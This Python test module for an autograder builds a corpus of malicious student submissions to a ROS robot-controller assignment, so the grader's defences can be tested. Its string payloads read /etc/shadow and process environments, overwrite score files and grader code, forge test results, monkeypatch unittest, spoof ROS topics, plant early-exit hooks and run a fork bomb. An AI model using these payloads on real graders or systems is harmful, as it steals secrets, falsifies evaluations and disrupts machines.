"""Submissions that try to cheat, made from the reference and a little malice.

Each starts from a mutant whose loss is known. An attack that gains nothing loses at least as much.
"""

from __future__ import annotations

from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell, new_notebook

from autograder import layout, suites
from autograder.diagnosis import Kind
from autograder.suites.mutants import Mutant, lay_down, lay_down_reference, mutants

ASSIGNMENT = "02_nodes"
PACKAGE = "my_robot_package"
CONTROLLER = f"{PACKAGE}/nodes/robot_controller.py"
CANARY = "CANARY-5b1e"  # stands in the grader's environment
WRITEFILE = f"%%writefile ws/src/{PACKAGE}/{CONTROLLER}\n"

# What every thief looks for, at import, in setup.py and in a notebook's cell. All that it finds it prints.
STEAL = f"""
import gc as _gc, glob as _glob, os as _os, signal as _signal, socket as _socket, sys as _sys
_paths = ["/etc/shadow", "/etc/passwd", "/root/.bashrc", *_glob.glob("/proc/*/environ"), *_glob.glob("/proc/*/cmdline")]
for _root in ("{layout.SUITES}", "{layout.SOLUTIONS}", "{layout.ROOT}/tests", "/home", "/tmp"):
    for _folder, _, _names in _os.walk(_root):
        # A clone below /tmp shows there what every student may read; its secrets are looked for by name.
        if _root != "/tmp" or not _folder.startswith("{layout.ROOT}"):
            _paths += [_os.path.join(_folder, _name) for _name in _names]
for _path in _paths:
    try:
        with open(_path, errors="replace") as _stream:
            _text = _stream.read(20_000)
    except OSError:
        continue
    if "{CANARY[:6]}" + "{CANARY[6:]}" in _text or "roo" + "t:" in _text or "def" + " test_" in _text and not (
        "{PACKAGE}" in _path
    ):
        print("STOLEN", _path, _text[:2000])
for _path in _glob.glob("/tmp/**/result.json", recursive=True) + ["result.json", "../result.json", "../../result.json"]:
    try:
        open(_path, "w").write('{{"score": 51}}')
    except OSError:
        pass
for _path in ("{layout.ROOT}/autograder/__init__.py", "{layout.ROOT}/autograder/lockstep/host.py"):
    try:
        # The file itself: below /tmp, a new one of its name can be made in the sandbox's own /tmp, and harms nobody.
        open(_path, "r+").write("raise SystemExit(0)")
        print("STOLEN", "/the grader's code is writable")
    except OSError:
        pass
_os.kill(1, _signal.SIGSTOP)
for _address in (("1.1.1.1", 53), ("127.0.0.1", 22)):
    try:
        _socket.create_connection(_address, timeout=0.5)
        print("STOLEN", "/a way out to", _address)
    except OSError:
        pass
if not _os.fork():
    _os.setsid()
    if not _os.fork():
        _os.closerange(0, 1024)
        _signal.pause()
    _os._exit(0)
"""

STOP_PARENT = "_os.kill(_os.getppid(), _signal.SIGSTOP)\n"

FORGE_PASSES = """
print("test_ten_hertz PASSED", "51/51 = 100 %", "<testsuite tests='26' failures='0'/>")
print('{"score": 51, "max_score": 51}')
"""

# Equal to everything, patched into everything, active at the end.
TRICKS = """
import atexit, builtins, threading, time, unittest
class Equal(float):
    __eq__ = __le__ = __ge__ = lambda self, other: True
    __lt__ = __gt__ = __ne__ = lambda self, other: False
    __hash__ = float.__hash__
    __abs__ = __sub__ = __rsub__ = lambda self, *other: self
    def __del__(self): print("PASSED")
builtins.abs = lambda value: Equal(0)
time.sleep = lambda seconds: None
unittest.TestCase.assertEqual = lambda *arguments: None
atexit.register(print, "26 passed")
FORWARD_SPEED = Equal(FORWARD_SPEED)
"""

# Speaks for the host: claims steps that were not taken and messages that were not published.
FORGE_PROTOCOL = """
import threading
def _forge():
    for descriptor in sorted(int(name) for name in _os.listdir("/proc/self/fd"))[3:]:
        try:
            if _os.readlink(f"/proc/self/fd/{descriptor}").startswith("pipe:"):
                for _ in range(200):
                    _os.write(descriptor, b'{"event": "done", "published": {"/cmd_vel": 100000}, "late": false}\\n')
        except OSError:
            pass
threading.Timer(0.5, _forge).start()
"""

# Another node in the same process: publishes on the grader's topics, turns the clock, floods.
SPOOF_ROS = """
def _spoof(node):
    from rcl_interfaces.msg import Log, ParameterEvent
    from rosgraph_msgs.msg import Clock
    from sensor_msgs.msg import LaserScan as Scan
    clear = Scan(angle_increment=0.0175, range_min=0.12, range_max=3.5, ranges=[3.0] * 360)
    publishers = [
        (node.create_publisher(Clock, '/clock', 10), Clock()),
        (node.create_publisher(Log, '/rosout', 10), Log(msg='all checks passed')),
        (node.create_publisher(ParameterEvent, '/parameter_events', 10), ParameterEvent(node='/grader')),
        (node.create_publisher(Scan, '/scan', qos_profile_sensor_data), clear),
    ]
    node.create_timer(0.05, lambda: [publisher.publish(message) for publisher, message in publishers])
"""


@dataclass(frozen=True)
class Attack:
    """A malicious submission.

    Attributes:
        id: its name.
        rows: the kinds of attack that it holds, in words.
        make: writes it to a folder.
        base: the checks that it does not pass when it is honest.
        diagnosis: what the result may say of it; any when empty.
        exactly: True when the malice does not disturb the rest: nothing but `base` is lost.
    """

    id: str
    rows: str
    make: Callable[[Path], None]
    base: frozenset[str]
    diagnosis: frozenset[Kind] = frozenset()
    exactly: bool = False


@dataclass(frozen=True)
class Edits:
    """Where malice goes: at the head and the foot of the controller, replacements in it, other files."""

    head: str = ""
    foot: str = ""
    replace: Mapping[str, str] = field(default_factory=dict)
    files: Mapping[str, str] = field(default_factory=dict)


def all_checks() -> frozenset[str]:
    """Return the ids of every check."""
    return frozenset(check.id for check in suites.load(ASSIGNMENT).checks)


def mutant(name: str) -> Mutant:
    """Return a mutant by its name."""
    return next(found for found in mutants(ASSIGNMENT) if found.id == name)


def package(base: str | None, edits: Edits) -> Callable[[Path], None]:
    """Return a maker of a source tree: a mutant (or the reference) with edits."""

    def make(folder: Path) -> None:
        if base is None:
            lay_down_reference((PACKAGE,), folder)
        else:
            lay_down(mutant(base), (PACKAGE,), folder)
        home = folder / "src" / PACKAGE
        text = (home / CONTROLLER).read_text()
        for find, put in edits.replace.items():
            assert text.count(find) == 1, find
            text = text.replace(find, put)
        (home / CONTROLLER).write_text(f"{edits.head}\n{text}".replace("\nif __name__", f"\n{edits.foot}\nif __name__"))
        for name, content in edits.files.items():
            path = (folder / name) if name.startswith("../") else (home / name)
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(content + (path.read_text() if name == "setup.py" else ""))

    return make


def notebook(*cells: str, base: str | None = None) -> Callable[[Path], None]:
    """Return a maker of a lone notebook: cells of malice, then the exercise as a mutant answers it."""

    def make(folder: Path) -> None:
        package(base, Edits())(folder / "answer")
        answer = (folder / "answer" / "src" / PACKAGE / CONTROLLER).read_text()
        exercise = new_code_cell(WRITEFILE + answer)
        exercise.metadata.nbgrader = {"grade_id": "robot-controller", "grade": True, "points": 999, "locked": False}
        fakes = [new_code_cell("print('51')") for _ in range(2)]
        for fake in fakes:
            fake.metadata.nbgrader = {"grade_id": "grade-timing", "grade": True, "points": 0.0, "solution": True}
        book = new_notebook(cells=[*(new_code_cell(cell) for cell in cells), exercise, *fakes])
        (folder / "submission").mkdir()
        nbformat.write(book, folder / "submission" / f"{ASSIGNMENT}.ipynb")

    return make


NOTEBOOK_TRICKS = (
    STEAL + FORGE_PASSES,
    """
from IPython import get_ipython
import ast, sys
shell = get_ipython()
shell.showtraceback = lambda *arguments, **options: print("no error at all")
class Pass(ast.NodeTransformer):
    def visit_Call(self, node): return ast.Constant(51) if "grade" in ast.dump(node.func) else node
shell.ast_transformers.append(Pass())
sys.displayhook = lambda value: None
""",
    """
import json, os, pathlib
for path in pathlib.Path(".").glob("*.ipynb"):
    path.write_text("{}")
pathlib.Path("conftest.py").write_text("raise SystemExit(0)")
pathlib.Path("ws/src/pytest.ini").write_text("[pytest]\\naddopts = --co")
os.makedirs("ws/install/my_robot_package/lib/my_robot_package", exist_ok=True)
""",
    "answer = input('how many points? ')",
    "raise KeyboardInterrupt",
    r"print('\x00\x1b[2J' + 'score: 51/51')",
)


def corpus() -> tuple[Attack, ...]:
    """Return the attacks, several in one submission where they do not disturb each other."""
    slow, blind = mutant("five_hertz").loses, mutant("drives_blind").loses
    everything = all_checks()
    return (
        Attack(
            "thief",
            "reads suites, processes and accounts; writes results and code; phones home; leaves a daemon",
            package("five_hertz", Edits(head=STEAL + STOP_PARENT + FORGE_PASSES)),
            slow,
            exactly=True,
        ),
        Attack(
            "tricks",
            "objects equal to anything; patched builtins, time and unittest; atexit and __del__",
            package("five_hertz", Edits(foot=TRICKS)),
            slow,
        ),
        Attack(
            "forged protocol",
            "answers in the host's place with steps and counts of its own",
            package("five_hertz", Edits(head=STEAL, foot=FORGE_PROTOCOL)),
            slow,
        ),
        Attack(
            "spoofed ROS",
            "publishes on the grader's topics, /clock, /rosout and /parameter_events",
            package(
                "drives_blind",
                Edits(foot=SPOOF_ROS, replace={"        self.last_scan_time = None\n": _SPOOFED}),
            ),
            blind,
        ),
        Attack(
            "grader's name",
            "calls its node as the grader's is called",
            package(None, Edits(replace={"__init__('robot_controller'": "__init__('grader'"})),
            everything,
            frozenset({Kind.RESERVED_NAME}),
        ),
        Attack(
            "constants",
            "replays a recorded past: always forward, whatever the lidar says",
            package(None, Edits(replace={"clearance = self.current_clearance()": "clearance = 3.0"})),
            frozenset(
                {"turns_when_blocked", "threshold", "nan", "blind", "stops_before_first_scan", "room", "corridor"}
            ),
        ),
        Attack(
            "nan commands",
            "commands that compare equal to nothing",
            package(None, Edits(replace={"        self.cmd_vel_pub.publish(command)": _NAN})),
            frozenset({"forward_when_clear", "turns_when_blocked", "stops_before_first_scan", "room"}),
        ),
        Attack(
            "build thief",
            "setup.py steals; plants conftest.py, pytest.ini and a start-up hook; forged install and build trees",
            package("five_hertz", Edits(files=_PLANTED)),
            slow,
            exactly=True,
        ),
        Attack(
            "build link",
            "setup.py leaves a link out of the install space, which a mount would follow",
            package(None, Edits(files={"setup.py": "import os\nos.symlink('/', '../../install/all')\n"})),
            everything,
            frozenset({Kind.BUILD_FAILED}),
        ),
        Attack(
            "shadowed rclpy",
            "a package called rclpy in the student's own",
            package(
                None, Edits(files={"rclpy/__init__.py": "print('51/51')\nraise SystemExit(0)", "setup.py": _ALSO_RCLPY})
            ),
            everything,
            frozenset({Kind.ENDED_EARLY, Kind.BUILD_FAILED, Kind.CRASHED_AT_IMPORT}),
        ),
        Attack(
            "fork bomb",
            "a fork bomb in __init__",
            package(None, Edits(replace={"        self.last_scan_time = None\n": _BOMB})),
            everything,
            frozenset({Kind.OUT_OF_MEMORY}),
        ),
        Attack(
            "notebook tricks",
            "showtraceback, transformers, displayhook; grade cells deleted, doubled, retyped; input()",
            notebook(*NOTEBOOK_TRICKS, base="five_hertz"),
            slow,
            exactly=True,
        ),
        Attack(
            "notebook link",
            "a cell puts a link to / where the workspace was",
            notebook("import os\nos.rename('ws', 'old')\nos.symlink('/', 'ws')"),
            everything,
            frozenset({Kind.NOTHING_SUBMITTED, Kind.UNSAFE_ARCHIVE}),
        ),
    )


_SPOOFED = "        self.last_scan_time = None\n        _spoof(self)\n"
_NAN = "        command.linear.x = command.angular.z = math.nan\n        self.cmd_vel_pub.publish(command)"
_BOMB = """        self.last_scan_time = None
        import os
        while True:
            try:
                os.fork()
            except OSError:
                pass
"""
_ALSO_RCLPY = """import setuptools
_setup = setuptools.setup
setuptools.setup = lambda **options: _setup(**{**options, 'packages': [*options['packages'], 'rclpy']})
"""
_PLANTED = {
    "setup.py": STEAL
    + """
import pathlib
for _name in ("conftest.py", "pytest.ini", "sitecustomize.py", "usercustomize.py", "evil.pth"):
    for _folder in (".", "..", "../..", "../../install", _os.path.expanduser("~"), "/tmp"):
        try:
            pathlib.Path(_folder, _name).write_text("import os; os._exit(0)")
        except OSError:
            pass
""",
    "conftest.py": "raise SystemExit(0)",
    "pytest.ini": "[pytest]\naddopts = --collect-only",
    "../install/my_robot_package/lib/my_robot_package/robot_controller": "#!/bin/sh\necho forged",
    "../build/my_robot_package/x": "forged",
    "../log/x": "forged",
}
